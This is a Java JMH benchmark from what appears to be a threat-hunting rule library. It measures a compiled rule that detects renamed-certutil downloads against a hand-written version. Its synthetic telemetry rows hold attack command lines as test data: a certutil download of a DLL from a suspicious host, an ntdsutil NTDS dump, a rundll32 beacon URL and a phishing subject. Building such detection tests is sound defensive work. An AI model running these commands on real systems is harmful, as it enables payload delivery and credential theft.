package dev.bazahunt.bench;

import dev.bazahunt.kql.CompiledQuery;
import dev.bazahunt.rules.CertutilDownloadRule;
import dev.bazahunt.rules.HuntRules;
import dev.bazahunt.rules.RuleCatalog;
import dev.bazahunt.rules.RuleIds;
import dev.bazahunt.telemetry.DefenderEvent;
import dev.bazahunt.telemetry.DeviceFileEvent;
import dev.bazahunt.telemetry.DeviceNetworkEvent;
import dev.bazahunt.telemetry.DeviceProcessEvent;
import dev.bazahunt.telemetry.EmailEvent;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Level;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.infra.Blackhole;

/**
 * The faithful rule compiled from its rule file against the hand-written oracle, on the same rows: the
 * BazaCall download (every operator runs), a benign write (the command line fails has_all) and a
 * certutil.exe row (the first filter fails). Also the whole pack's loop over a file row, as
 * RouteTelemetry runs it.
 *
 * <p>Before measuring, every rule of the pack runs on rows of every table it reads, as in the job, so
 * the JIT's type profiles have seen every kind of compiled test: a compiled rule is not measured in a
 * JVM where it is the only query, which would flatter any design.
 */
@State(Scope.Thread)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
public class CompiledRuleBenchmark {
    private final CompiledQuery compiled = RuleCatalog.standard().compiledQuery(RuleIds.CERTUTIL_DOWNLOAD);
    private final HuntRules pack = HuntRules.standard();
    private final DeviceFileEvent download = row("x8k2.exe",
            "x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll");
    private final DeviceFileEvent benign = row("chrome.exe",
            "\"chrome.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US");
    private final DeviceFileEvent certutil = row("certutil.exe",
            "certutil.exe -urlcache -split -f http://crl.example/x.crl");

    /** Every pack rule on rows of every table, a few hundred thousand times, before any measurement. */
    @Setup(Level.Trial)
    public void runTheWholePackFirst() {
        DeviceProcessEvent macro = new DeviceProcessEvent();
        macro.initiatingProcessFileName = "EXCEL.EXE";
        macro.fileName = "cmd.exe";
        macro.processCommandLine = "cmd.exe /c mkdir C:\\Users\\Public\\x8k2 && copy C:\\Windows\\System32\\certutil.exe"
                + " C:\\Users\\Public\\x8k2\\x8k2.exe";
        DeviceProcessEvent ntds = new DeviceProcessEvent();
        ntds.fileName = "ntdsutil.exe";
        ntds.processCommandLine = "ntdsutil \"ac i ntds\" ifm \"create full C:\\temp\\x\" q q";
        ntds.processVersionInfoProductName = "Microsoft Windows Operating System";
        DeviceNetworkEvent beacon = new DeviceNetworkEvent();
        beacon.initiatingProcessFileName = "rundll32.exe";
        beacon.initiatingProcessCommandLine = "rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut";
        beacon.remoteUrl = "https://pshe0pxe339ab.xyz/config.php";
        EmailEvent lure = new EmailEvent();
        lure.subject = "Your free trial KMR004215896311 is about to end";
        DeviceFileEvent delivery = row("chrome.exe", "chrome.exe --type=renderer");
        delivery.fileOriginUrl = "https://bomovie.net/cancel.php";
        delivery.fileOriginReferrerUrl = "https://bomovie.net/account";
        DefenderEvent[] rows = {download, benign, certutil, delivery, macro, ntds, beacon, lure};
        int matches = 0;
        for (int round = 0; round < 50_000; round++) {
            for (DefenderEvent event : rows) {
                matches += pack.matching(event).size();
            }
        }
        if (matches == 0) {
            throw new IllegalStateException("the warm-up rows match no rule of the pack");
        }
    }

    private static DeviceFileEvent row(String fileName, String commandLine) {
        DeviceFileEvent event = new DeviceFileEvent();
        event.deviceId = "b2c4e6a8f0123456789abcdef0123456789abcde";
        event.initiatingProcessFileName = fileName;
        event.initiatingProcessCommandLine = commandLine;
        return event;
    }

    @Benchmark
    public boolean compiledOnDownload() {
        return compiled.matches(download);
    }

    @Benchmark
    public boolean handWrittenOnDownload() {
        return CertutilDownloadRule.matches(download);
    }

    @Benchmark
    public boolean compiledOnBenignWrite() {
        return compiled.matches(benign);
    }

    @Benchmark
    public boolean handWrittenOnBenignWrite() {
        return CertutilDownloadRule.matches(benign);
    }

    @Benchmark
    public boolean compiledOnCertutil() {
        return compiled.matches(certutil);
    }

    @Benchmark
    public boolean handWrittenOnCertutil() {
        return CertutilDownloadRule.matches(certutil);
    }

    /** Every file rule of the pack on one download row, as the job's loop offers it. */
    @Benchmark
    public void packLoopOnDownload(Blackhole blackhole) {
        for (HuntRules.CompiledRule rule : pack.forTable(download.table())) {
            blackhole.consume(rule.query().matches(download));
        }
    }
}
